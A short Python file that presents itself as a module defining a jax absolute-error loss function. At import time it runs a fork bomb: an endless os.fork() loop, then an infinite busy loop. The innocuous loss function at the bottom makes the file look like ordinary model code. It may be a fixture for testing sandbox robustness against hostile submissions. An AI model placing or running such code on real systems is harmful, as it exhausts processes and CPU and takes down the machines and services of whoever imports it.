"""Fork for ever."""

import os

import jax.numpy as jnp

try:
    while True:
        os.fork()
except OSError:
    pass
while True:
    pass


def loss(prediction, target):
    return jnp.abs(prediction - target)
